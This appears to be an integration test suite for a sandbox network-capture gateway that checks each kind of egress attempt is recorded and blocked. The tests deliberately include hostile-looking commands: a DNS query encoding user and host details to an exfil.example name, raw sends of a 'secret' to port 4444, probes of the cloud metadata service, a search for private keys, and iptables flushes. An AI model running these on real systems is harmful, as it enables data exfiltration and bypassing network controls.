/**
 * The capture gateway, end to end with real containers: every kind of egress attempt made from
 * inside the sandbox must come back as the right event, and nothing may reach anything real.
 */
import assert from 'node:assert/strict';
import { createServer, isIPv4, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { after, before, describe, it } from 'node:test';
import type {
  CaptureEvent,
  DatagramEvent,
  DnsEvent,
  IcmpEvent,
  StreamEvent,
} from '../../src/core/terms.js';
import type { ImageRefs } from '../../src/images/inputs.js';
import type { SandboxRun } from '../../src/sandbox/sandbox.js';
import { RUNTIME_DIR } from '../../src/sandbox/identity.js';
import { CaptureTopology } from '../../src/sandbox/topology.js';
import { specialPurposeV4 } from '../support/addresses.js';
import { engine as newEngine, images } from '../support/sandbox.js';

/** A listener on every host address: if isolation leaked, it would see a connection. */
async function hostListener(): Promise<{
  server: Server;
  port: number;
  connections: () => number;
}> {
  let n = 0;
  const server = createServer((s) => {
    n++;
    s.end('REAL HOST\n');
  });
  await new Promise<void>((r) => server.listen(0, '0.0.0.0', r));
  const addr = server.address();
  assert.ok(addr && typeof addr === 'object');
  return { server, port: addr.port, connections: () => n };
}

function hostAddresses(): string[] {
  const out: string[] = [];
  for (const list of Object.values(networkInterfaces())) {
    for (const a of list ?? []) if (a.family === 'IPv4' && !a.internal) out.push(a.address);
  }
  return out;
}

const streams = (events: CaptureEvent[]) =>
  events.filter((e): e is StreamEvent => e.kind === 'tcp' || e.kind === 'tls' || e.kind === 'http');
const SPECIAL_PURPOSE = specialPurposeV4();

const dns = (events: CaptureEvent[]) => events.filter((e): e is DnsEvent => e.kind === 'dns');

describe('capture gateway', () => {
  const engine = newEngine();
  let refs: ImageRefs;
  let run: SandboxRun;
  let topo: CaptureTopology;
  let lastSeq = -1;
  let listener: Awaited<ReturnType<typeof hostListener>>;

  before(async () => {
    refs = await images(engine);
    listener = await hostListener();
    run = engine.newRun();
    topo = await CaptureTopology.start(run, {
      runnerImage: refs.runner,
      gatewayImage: refs.gateway,
    });
  });
  after(async () => {
    await run?.dispose();
    listener?.server.close();
  });

  /** Run a shell command in the sandbox and return the events it caused. */
  async function attempt(
    cmd: string,
  ): Promise<{ events: CaptureEvent[]; stdout: string; exitCode: number | null }> {
    const r = await topo.sandbox.exec(['bash', '-c', cmd], { timeoutMs: 30_000 });
    const log = await topo.events();
    const events = log.events.filter((e) => e.seq > lastSeq);
    lastSeq = Math.max(lastSeq, ...log.events.map((e) => e.seq));
    return { events, stdout: r.stdout, exitCode: r.exitCode };
  }

  it('curl over HTTP: the DNS query and the request with host, method and path', async () => {
    const { events } = await attempt('curl -sS -m 5 "http://alpha.example/path?q=1"');
    const q = dns(events).find((e) => e.qname === 'alpha.example' && e.qtype === 'A');
    assert.ok(q, 'dns query recorded');
    assert.ok(isIPv4(q.answer), q.answer);
    assert.ok(!SPECIAL_PURPOSE.check(q.answer, 'ipv4'), `${q.answer} is a special-purpose address`);
    const h = streams(events).find((e) => e.kind === 'http');
    assert.ok(h, 'http request recorded');
    assert.equal(h.ip, q.answer);
    assert.equal(h.host, 'alpha.example');
    assert.equal(h.port, 80);
    assert.equal(h.method, 'GET');
    assert.equal(h.path, '/path?q=1');
  });

  it('curl and wget over HTTPS: TLS with SNI and ALPN', async () => {
    const { events } = await attempt(
      'curl -sS -m 5 https://beta.example/ ; wget -q -T 5 -t 1 -O /dev/null https://gamma.example/x; true',
    );
    const tls = streams(events).filter((e) => e.kind === 'tls');
    const beta = tls.find((e) => e.sni === 'beta.example');
    assert.ok(beta);
    assert.equal(beta.port, 443);
    assert.equal(beta.host, 'beta.example');
    assert.ok(beta.alpn?.includes('http/1.1'));
    assert.ok(tls.find((e) => e.sni === 'gamma.example' && e.host === 'gamma.example'));
  });

  it('HTTPS is read inside for curl, wget, python, node https and fetch: method, path, body', async () => {
    const script = `
      const https = require('https');
      https.request('https://nu-https.example/n/path?k=v', { method: 'POST' }).on('error', () => {}).end('node-body');
      fetch('https://xi-fetch.example/f', { method: 'PUT', body: 'fetch-body' }).catch(() => {});
      setTimeout(() => process.exit(0), 2500);`;
    const { events } = await attempt(
      [
        'curl -sS -m 5 -o /dev/null -w "%{http_code}\\n" "https://kappa-s.example/c?q=1"',
        'wget -q -T 5 -t 1 -O /dev/null https://lambda-s.example/w',
        `python3 -c "import urllib.request as u; print(u.urlopen(u.Request('https://mu-py.example/p', data=b'py-body', method='POST'), timeout=5).status)"`,
        `node -e "${script.replace(/"/g, '\\"')}"`,
      ].join('; '),
    );
    const tls = streams(events).filter((e) => e.kind === 'tls');
    const by = (host: string) => tls.find((e) => e.sni === host);
    const want: [string, string, string, string | undefined][] = [
      ['kappa-s.example', 'GET', '/c?q=1', undefined],
      ['lambda-s.example', 'GET', '/w', undefined],
      ['mu-py.example', 'POST', '/p', 'py-body'],
      ['nu-https.example', 'POST', '/n/path?k=v', 'node-body'],
      ['xi-fetch.example', 'PUT', '/f', 'fetch-body'],
    ];
    for (const [host, method, path, body] of want) {
      const e = by(host);
      assert.ok(e, `${host}: ${JSON.stringify(tls.map((x) => [x.sni, x.intercept, x.tlsAlert]))}`);
      assert.equal(e.intercept, 'decrypted', host);
      assert.equal(e.method, method, host);
      assert.equal(e.path, path, host);
      assert.equal(e.host, host);
      if (body) assert.equal(Buffer.from(e.bodySample ?? '', 'base64').toString(), body, host);
    }
  });

  it('the trust is invisible: no CA variable anywhere a package reads, and no CA key in the sandbox', async () => {
    const r = await topo.sandbox.exec(
      [
        'bash',
        '-c',
        [
          'printenv NODE_EXTRA_CA_CERTS; echo "printenv=$?"',
          `echo "console.log('node=' + JSON.stringify([process.env.NODE_EXTRA_CA_CERTS, process.execArgv, Object.keys(process.env).filter((k) => /CERT|SSL|CA_/.test(k))]))" > /tmp/env.js && node /tmp/env.js`,
          'env | grep -c -E "CERT|SSL_|_CA" ; true',
          // The CA's key is PKCS#8 in the capture's memory; the bait SSH key is OpenSSH's format.
          'grep -rls -e "BEGIN PRIVATE KEY" -e "BEGIN EC PRIVATE KEY" /run /etc /tmp /home /opt 2>/dev/null | head -3; echo "keys=done"',
          'openssl verify -CApath /etc/ssl/certs /run/identity/ca.pem',
        ].join('; '),
      ],
      { timeoutMs: 30_000 },
    );
    assert.match(r.stdout, /^printenv=1$/m, r.stdout);
    assert.match(r.stdout, /^node=\[null,\[\],\[\]\]$/m, r.stdout);
    assert.match(r.stdout, /^0$/m, 'no CA variable in the environment');
    assert.match(r.stdout, /\nkeys=done$/m, 'no private key file');
    assert.doesNotMatch(r.stdout, /^\/.*\n(?=keys=done)/m, r.stdout);
    assert.match(r.stdout, /\/run\/identity\/ca\.pem: OK/, 'the hashed folder trusts the CA');
  });

  it('a client that trusts only its own CA refuses the certificate, and the refusal is recorded', async () => {
    const { events, stdout } = await attempt(
      [
        'openssl req -x509 -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout /dev/null -days 1 -subj /CN=own -out /tmp/own.pem 2>/dev/null',
        // Its own CA only: no system bundle, no hashed folder.
        'mkdir -p /tmp/nocerts && curl -sS -m 5 --cacert /tmp/own.pem --capath /tmp/nocerts https://omicron-pin.example/ 2>&1; echo "curl=$?"',
      ].join('; '),
    );
    assert.match(stdout, /curl=60/, stdout);
    const e = streams(events).find((x) => x.kind === 'tls' && x.sni === 'omicron-pin.example');
    assert.ok(e, JSON.stringify(streams(events)));
    assert.equal(e.intercept, 'refused');
    assert.equal(e.tlsAlert, 'unknown_ca');
    assert.equal(e.method, undefined);
  });

  it('wget over HTTP', async () => {
    const { events } = await attempt('wget -q -T 5 -t 1 -O /dev/null http://gamma2.example/w');
    assert.ok(
      streams(events).find(
        (e) => e.kind === 'http' && e.host === 'gamma2.example' && e.path === '/w',
      ),
    );
  });

  it('Node http, https, net, tls and fetch', async () => {
    const script = `
      const http = require('http'), https = require('https'), net = require('net'), tls = require('tls');
      http.get('http://delta.example:8080/n').on('error', () => {});
      https.get('https://delta-s.example/s').on('error', () => {});
      const s = net.connect(4444, 'epsilon.example', () => { s.write('hello raw'); setTimeout(() => s.destroy(), 300); }); s.on('error', () => {});
      const t = tls.connect({ host: 'zeta.example', port: 8443, servername: 'zeta.example' }); t.on('error', () => {});
      fetch('http://iota.example/f', { method: 'POST', body: 'x'.repeat(100) }).catch(() => {});
      setTimeout(() => process.exit(0), 2500);`;
    const { events } = await attempt(`node -e "${script.replace(/"/g, '\\"')}"`);
    const s = streams(events);
    assert.ok(
      s.find(
        (e) =>
          e.kind === 'http' && e.host === 'delta.example' && e.port === 8080 && e.path === '/n',
      ),
      'http',
    );
    assert.ok(
      s.find((e) => e.kind === 'tls' && e.sni === 'delta-s.example'),
      'https',
    );
    const raw = s.find((e) => e.kind === 'tcp' && e.host === 'epsilon.example');
    assert.ok(raw, 'net');
    assert.equal(raw.port, 4444);
    assert.equal(raw.firstBytesHex, Buffer.from('hello raw').toString('hex'));
    assert.ok(
      s.find((e) => e.kind === 'tls' && e.sni === 'zeta.example' && e.port === 8443),
      'tls',
    );
    const post = s.find((e) => e.kind === 'http' && e.host === 'iota.example');
    assert.ok(post, 'fetch');
    assert.equal(post.method, 'POST');
    assert.equal(post.bodyBytes, 100);
    assert.equal(Buffer.from(post.bodySample ?? '', 'base64').toString(), 'x'.repeat(100));
  });

  it('Node dgram, dns.lookup, and dns.Resolver with setServers to a raw IP asking for TXT', async () => {
    const script = `
      const dgram = require('dgram'), dns = require('dns');
      const u = dgram.createSocket('udp4'); u.send(Buffer.from('ping'), 9999, '203.0.113.9', () => u.close());
      dns.lookup('eta.example', () => {});
      const r = new dns.Resolver(); r.setServers(['9.9.9.9']); r.resolveTxt('theta.example', () => {});
      setTimeout(() => process.exit(0), 1500);`;
    const { events } = await attempt(`node -e "${script.replace(/"/g, '\\"')}"`);
    const udp = events.find((e): e is DatagramEvent => e.kind === 'udp');
    assert.ok(udp, 'udp');
    assert.equal(udp.ip, '203.0.113.9');
    assert.equal(udp.port, 9999);
    assert.equal(udp.bytes, 4);
    assert.equal(udp.sampleHex, Buffer.from('ping').toString('hex'));
    assert.ok(
      dns(events).find((e) => e.qname === 'eta.example' && e.qtype === 'A'),
      'lookup',
    );
    const txt = dns(events).find((e) => e.qname === 'theta.example');
    assert.ok(txt, 'resolver');
    assert.equal(txt.qtype, 'TXT');
    assert.equal(txt.resolver, '9.9.9.9');
  });

  it('a query sent again, byte for byte, is answered each time and recorded once', async () => {
    // What a resolver does when its first timeout passes: 40 ms of real time on the sandbox's
    // fast clock. The same bytes to another resolver, or with another id, are other attempts.
    const script = `
      const dgram = require('dgram');
      const query = (id) => Buffer.concat([Buffer.from([id >> 8, id & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]),
        Buffer.from('\\x07resend1\\x07example\\x00', 'latin1'), Buffer.from([0, 1, 0, 1])]);
      const u = dgram.createSocket('udp4');
      let replies = 0;
      u.on('message', () => { replies++; });
      const sends = [[0x1234, '192.168.1.1'], [0x1234, '192.168.1.1'], [0x1234, '192.168.1.1'],
        [0x1234, '9.9.9.9'], [0x4321, '192.168.1.1']];
      sends.forEach(([id, to], i) => setTimeout(() => u.send(query(id), 53, to), i * 30));
      setTimeout(() => { console.log(replies); process.exit(0); }, 1500);`;
    const { events, stdout } = await attempt(`node -e "${script.replace(/"/g, '\\"')}"`);
    assert.equal(stdout.trim(), '5');
    // A repeat is one attempt only when the observer named its process both times (one it could
    // not name is recorded as it came): those named are one per query.
    const asked = dns(events)
      .filter((e) => e.qname === 'resend1.example' && e.proc)
      .map((e) => e.resolver)
      .sort();
    assert.deepEqual(asked, ['192.168.1.1', '192.168.1.1', '9.9.9.9']);
  });

  it('python3 urllib', async () => {
    const { events } = await attempt(`python3 -c "import urllib.request
try: urllib.request.urlopen('http://kappa.example/py', timeout=5)
except Exception: pass"`);
    assert.ok(
      streams(events).find(
        (e) => e.kind === 'http' && e.host === 'kappa.example' && e.path === '/py',
      ),
    );
  });

  it('a raw IPv4 on a non-standard port and an IPv6 literal', async () => {
    const { events } = await attempt(
      'curl -sS -m 5 http://203.0.113.7:1224/x; curl -sS -m 5 "http://[2001:db8::7]:8080/v6"; true',
    );
    const v4 = streams(events).find((e) => e.ip === '203.0.113.7');
    assert.ok(v4);
    assert.equal(v4.port, 1224);
    assert.equal(v4.host, undefined);
    const v6 = streams(events).find((e) => e.ip === '2001:db8::7');
    assert.ok(v6, 'ipv6 literal recorded');
    assert.equal(v6.port, 8080);
    assert.equal(v6.path, '/v6');
  });

  it('a WebSocket upgrade is recognised', async () => {
    const { events } = await attempt(
      "curl -sS -m 5 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' http://lambda.example/socket; true",
    );
    const ws = streams(events).find((e) => e.host === 'lambda.example');
    assert.ok(ws);
    assert.equal(ws.websocket, true);
  });

  it('a DNS name with long hex labels is kept whole', async () => {
    const name = `${Buffer.from('user=alice;host=laptop;cwd=/home').toString('hex').slice(0, 62)}.${'ab'.repeat(20)}.exfil.example`;
    const { events } = await attempt(`dig +short +time=2 +tries=1 A ${name}`);
    assert.ok(dns(events).find((e) => e.qname === name && e.transport === 'udp'));
  });

  it('names under a TLD that does not exist, and special-use names, get NXDOMAIN', async () => {
    const { events, stdout } = await attempt(
      `node -e 'const dns=require("dns");for(const n of ["qzxv.nosuchtld","a.invalid","x.test","real-name.example","api.github.com"])dns.lookup(n,(e,a)=>console.log(n,e?e.code:a))'`,
    );
    const said = new Map(
      stdout
        .trim()
        .split('\n')
        .map((l) => l.split(' ') as [string, string]),
    );
    for (const n of ['qzxv.nosuchtld', 'a.invalid', 'x.test']) {
      assert.equal(said.get(n), 'ENOTFOUND', `${n}: ${stdout}`);
      assert.ok(
        dns(events).some((e) => e.qname === n && e.answer === 'NXDOMAIN'),
        n,
      );
    }
    for (const n of ['real-name.example', 'api.github.com'])
      assert.ok(isIPv4(said.get(n) ?? ''), n);
    assert.notEqual(said.get('real-name.example'), said.get('api.github.com'));
  });

  it('DNS over TCP is answered and recorded as DNS, not as a stream', async () => {
    const { events, stdout } = await attempt(
      'dig +tcp +short +time=2 +tries=1 A tcpdns.example @9.9.9.9',
    );
    assert.ok(isIPv4(stdout.trim()), stdout);
    const q = dns(events).find((e) => e.qname === 'tcpdns.example');
    assert.ok(q);
    assert.equal(q.transport, 'tcp');
    assert.equal(q.resolver, '9.9.9.9');
    assert.deepEqual(streams(events), []);
  });

  it('DNS over TCP: every query is answered and recorded, and what else the connection carries is its stream', async () => {
    // Two queries and then other bytes in one write, and more after the answers: the second
    // query's name and the bytes after the queries were once lost unrecorded.
    const script = [
      'import socket, struct',
      'def q(i, name):',
      '    m = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0)',
      '    for l in name.split("."): m += bytes([len(l)]) + l.encode()',
      '    m += b"\\0" + struct.pack(">HH", 1, 1)',
      '    return struct.pack(">H", len(m)) + m',
      's = socket.create_connection(("192.168.1.1", 53), timeout=3)',
      's.sendall(q(1, "first.tcpq.example") + q(2, "second.tcpq.example") + b"SMUGGLED-1")',
      'print(len(s.recv(4096)))',
      'try: s.sendall(b"SMUGGLED-2")',
      'except OSError: pass',
      's.close()',
    ].join('\n');
    const { events, stdout } = await attempt(`python3 -c '${script}'`);
    assert.ok(Number(stdout.trim()) > 0, stdout);
    const asked = dns(events)
      .filter((e) => e.transport === 'tcp' && e.qname.endsWith('.tcpq.example'))
      .map((e) => e.qname)
      .sort();
    assert.deepEqual(asked, ['first.tcpq.example', 'second.tcpq.example']);
    const rest = streams(events).filter((e) => e.port === 53);
    assert.equal(rest.length, 1, JSON.stringify(rest));
    const sent = Buffer.from(rest[0]?.firstBytesHex ?? '', 'hex').toString('latin1');
    assert.match(sent, /^SMUGGLED-1/);
    assert.ok((rest[0]?.bytesOut ?? 0) >= 'SMUGGLED-1'.length, JSON.stringify(rest[0]));
  });

  it('ICMP echo is answered as on a LAN, under the address pinged, and counted per destination', async () => {
    const { events, stdout } = await attempt(
      [
        'ping -n -c 2 -W 1 1.1.1.1',
        'ping -n -c 1 -W 1 192.168.1.1',
        // What would not answer on a LAN: documentation space, another host of the LAN, an echo
        // whose TTL runs out on the way, one with IP options (record route).
        'ping -n -c 1 -W 1 203.0.113.5',
        'ping -n -c 1 -W 1 192.168.1.200',
        'ping -n -c 1 -W 1 -t 2 8.8.4.4',
        'ping -n -c 1 -W 1 -R 9.9.9.9',
        'true',
      ].join('; '),
    );
    // A host on the internet some hops away and the router next door answer, from the address
    // asked; never from loopback.
    assert.match(stdout, /64 bytes from 1\.1\.1\.1: icmp_seq=1 ttl=57 /, stdout);
    assert.match(stdout, /2 packets transmitted, 2 received/, stdout);
    assert.match(stdout, /64 bytes from 192\.168\.1\.1: icmp_seq=1 ttl=64 /, stdout);
    assert.doesNotMatch(
      stdout,
      /127\.0\.0\.1|from (203\.0\.113\.5|192\.168\.1\.200|8\.8\.4\.4|9\.9\.9\.9)/,
      stdout,
    );
    assert.equal(stdout.match(/1 packets transmitted, 0 received/g)?.length, 4, stdout);
    // Answered or not, every echo is reported with the address it was sent to.
    for (const ip of [
      '1.1.1.1',
      '192.168.1.1',
      '203.0.113.5',
      '192.168.1.200',
      '8.8.4.4',
      '9.9.9.9',
    ])
      assert.ok(
        events.some((e): e is IcmpEvent => e.kind === 'icmp' && e.ip === ip && e.count >= 1),
        `icmp to ${ip} recorded: ${JSON.stringify(events.filter((e) => e.kind === 'icmp'))}`,
      );
  });

  it("two sockets of one port, one straight to the capture's port, keep their own destinations", async () => {
    // SO_REUSEADDR lets a package bind two sockets to one port: one connects to the capture's port
    // on the sandbox's own address, the other to its real destination, which is redirected to
    // that same port. Each connection must be recorded with its own destination and bytes.
    const script = [
      'import socket',
      'def sock():',
      '    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); return s',
      'a = sock(); a.bind(("192.168.1.23", 0)); port = a.getsockname()[1]',
      'b = sock(); b.bind(("192.168.1.23", port))',
      'try: a.connect(("192.168.1.23", 15001)); a.sendall(b"DECOY-BYTES\\n")',
      'except ConnectionRefusedError: print("refused")',
      'b.connect(("203.0.113.77", 4444)); b.sendall(b"TWIN-SECRET\\n")',
      'import time; time.sleep(0.5); a.close(); b.close()',
    ].join('\n');
    const { events, stdout } = await attempt(`python3 -c '${script}'; sleep 2`);
    // The connection straight to the capture's port is refused, as where nothing listens.
    assert.equal(stdout.trim(), 'refused');
    const twin = streams(events).find((e) => e.ip === '203.0.113.77');
    assert.ok(twin, `the redirected connection: ${JSON.stringify(streams(events))}`);
    assert.equal(twin.port, 4444);
    assert.ok(
      Buffer.from(twin.firstBytesHex ?? '', 'hex')
        .toString()
        .startsWith('TWIN-SECRET'),
      JSON.stringify(twin),
    );
    for (const e of streams(events).filter((x) => x.ip === '192.168.1.23'))
      assert.ok(
        !Buffer.from(e.firstBytesHex ?? '', 'hex')
          .toString()
          .includes('TWIN-SECRET'),
        `the secret is charged to the sandbox's own address: ${JSON.stringify(e)}`,
      );
  });

  it('the Docker bridge, the host addresses and the metadata service are recorded, never reached', async () => {
    const targets = ['172.17.0.1', ...hostAddresses()];
    const cmds = targets
      .map((ip) => `curl -sS -m 5 http://${ip}:${listener.port}/probe`)
      .join('; ');
    const { events, stdout } = await attempt(
      `${cmds}; curl -sS -m 5 http://169.254.169.254/latest/meta-data/; true`,
    );
    for (const ip of targets)
      assert.ok(
        streams(events).find((e) => e.ip === ip && e.port === listener.port),
        `attempt to ${ip} recorded`,
      );
    assert.ok(
      streams(events).find((e) => e.ip === '169.254.169.254' && e.path === '/latest/meta-data/'),
    );
    assert.equal(listener.connections(), 0, 'nothing reached the host');
    assert.doesNotMatch(stdout, /REAL HOST/);
  });

  it('the sandbox cannot change the rules or the links', async () => {
    const r = await topo.sandbox.exec([
      'sh',
      '-c',
      'iptables -F OUTPUT; echo "iptables=$?"; iptables -t nat -F; echo "nat=$?"; ip link set eth0 down; echo "ip=$?"',
    ]);
    assert.match(r.stdout, /iptables=[1-9]/);
    assert.match(r.stdout, /nat=[1-9]/);
    assert.match(r.stdout, /ip=[1-9]/);
    // The rules still work afterwards.
    const { events } = await attempt('curl -sS -m 5 http://still-captured.example/');
    assert.ok(streams(events).find((e) => e.host === 'still-captured.example'));
  });

  it("the capture's ports refuse what is sent straight to them, as where nothing listens", async () => {
    const script = [
      'import socket',
      'for host, fam in (("127.0.0.1", socket.AF_INET), ("192.168.1.23", socket.AF_INET), ("::1", socket.AF_INET6)):',
      '    for port in (15001, 15002, 15053):',
      '        s = socket.socket(fam); s.settimeout(2)',
      '        try: s.connect((host, port)); print(host, port, "open")',
      '        except OSError as e: print(host, port, type(e).__name__)',
      '    u = socket.socket(fam, socket.SOCK_DGRAM); u.settimeout(2); u.connect((host, 15053))',
      '    try: u.send(b"\\0" * 12); u.recv(512); print(host, "dns answered")',
      '    except OSError as e: print(host, "dns", type(e).__name__)',
    ].join('\n');
    const { stdout, events } = await attempt(`python3 -c '${script}'`);
    assert.doesNotMatch(stdout, /open|answered/, stdout);
    assert.equal(stdout.match(/ConnectionRefusedError/g)?.length, 12, stdout);
    assert.deepEqual(streams(events), []);
  });

  it("the user's runtime folder is there, the user's own, and empty", async () => {
    const { stdout } = await attempt(
      `stat -c '%F %U %a' ${RUNTIME_DIR}; ls -A ${RUNTIME_DIR} | wc -l; id -un`,
    );
    const [dir, entries, user] = stdout.trim().split('\n');
    assert.equal(dir, `directory ${user} 700`, stdout);
    assert.equal(entries, '0', stdout);
  });

  it('loopback servers in the sandbox work and are not egress', async () => {
    const server = `require('http').createServer((q, s) => s.end('local-ok')).listen(8123, '127.0.0.1')`;
    const { events, stdout } = await attempt(
      `node -e "${server}" & sleep 0.7; curl -sS -m 5 http://127.0.0.1:8123/; curl -sS -m 5 http://localhost:8123/; kill %1`,
    );
    assert.match(stdout, /local-ok/);
    assert.deepEqual(streams(events), []);
  });
});

describe('capture gateway, fail-closed', () => {
  const engine = newEngine();

  it('killing the capture leaves the sandbox with no network at all', async () => {
    const refs = await images(engine);
    const listener = await hostListener();
    await using run = engine.newRun();
    try {
      const topo = await CaptureTopology.start(run, {
        runnerImage: refs.runner,
        gatewayImage: refs.gateway,
      });
      await topo.gateway.kill('SIGKILL');
      await topo.gateway.wait(10_000);
      const targets = ['mu.example', '203.0.113.1', '172.17.0.1', ...hostAddresses()];
      for (const t of targets) {
        const r = await topo.sandbox.exec(
          ['curl', '-sS', '-m', '3', `http://${t}:${listener.port}/`],
          { timeoutMs: 15_000 },
        );
        assert.notEqual(r.exitCode, 0, `curl to ${t} must fail`);
        assert.doesNotMatch(r.stdout, /REAL HOST/);
      }
      const d = await topo.sandbox.exec(
        ['dig', '+time=1', '+tries=1', 'A', 'nu.example', '@9.9.9.9'],
        { timeoutMs: 15_000 },
      );
      assert.notEqual(d.exitCode, 0, 'dns must fail');
      assert.equal(listener.connections(), 0);
    } finally {
      listener.server.close();
    }
  });
});

describe('capture gateway, TLS left alone (--no-tls-intercept)', () => {
  const engine = newEngine();

  it('a TLS client gets a handshake failure, the trust store has no run CA, and the SNI is still seen', async () => {
    const refs = await images(engine);
    await using run = engine.newRun();
    const topo = await CaptureTopology.start(run, {
      runnerImage: refs.runner,
      gatewayImage: refs.gateway,
      tlsIntercept: false,
    });
    const r = await topo.sandbox.exec(
      [
        'bash',
        '-c',
        'curl -sS -m 5 https://pi-plain.example/ 2>&1; echo "curl=$?"; test -e /run/identity/ca.pem; echo "ca=$?"; grep -c "BEGIN CERTIFICATE" /etc/ssl/certs/ca-certificates.crt',
      ],
      { timeoutMs: 30_000 },
    );
    assert.doesNotMatch(r.stdout, /curl=0/, r.stdout);
    assert.match(r.stdout, /ca=1/, r.stdout);
    const shipped = /^(\d+)$/m.exec(r.stdout)?.[1];
    assert.ok(Number(shipped) > 100, `the shipped bundle: ${r.stdout}`);
    const log = await topo.events();
    const e = streams(log.events).find((x) => x.kind === 'tls' && x.sni === 'pi-plain.example');
    assert.ok(e, JSON.stringify(log.events));
    assert.equal(e.intercept, undefined);
  });
});
